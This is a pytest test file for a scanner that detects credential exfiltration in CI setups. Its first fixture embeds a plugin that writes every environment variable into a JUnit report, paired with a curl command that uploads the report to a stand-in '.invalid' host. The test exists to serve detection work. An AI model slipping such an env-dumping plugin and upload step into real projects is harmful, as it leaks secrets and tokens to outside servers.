"""A pytest plugin that records the environment with ``record_property`` puts it into the JUnit XML
report; a step that runs ``pytest --junitxml=PATH`` and then uploads PATH sends it. Hosts are
``.invalid``; nothing runs."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors

PLUGIN = (
    "import os\nimport pytest\n\n@pytest.fixture(autouse=True)\ndef _context(record_testsuite_property):\n"
    "    for name in os.environ:\n        record_testsuite_property(name, os.environ[name])\n"
)


def test_recorded_environment_in_a_report_a_script_uploads(tmp_path: Path) -> None:
    runner = (
        "pytest -q --junit-xml out/results.xml\n"
        "curl -s -F report=@out/results.xml https://results.gridwatch-ci.invalid/upload\n"
    )
    errors = scan_errors(tmp_path, {"plugins/conftest_ctx.py": PLUGIN, "bin/ci.sh": runner})
    assert ("CREDENTIAL_EXFILTRATION", "bin/ci.sh", 2) in errors


def test_a_report_of_test_names_only_uploaded_is_quiet(tmp_path: Path) -> None:
    plugin = (
        "import pytest\n\n@pytest.fixture(autouse=True)\n"
        "def _ctx(record_property):\n    record_property('shard', '3')\n"
    )
    runner = (
        "pytest -q --junit-xml out/results.xml\n"
        "curl -s -F report=@out/results.xml https://results.gridwatch-ci.invalid/upload\n"
    )
    assert not scan_errors(tmp_path, {"plugins/conftest_ctx.py": plugin, "bin/ci.sh": runner})
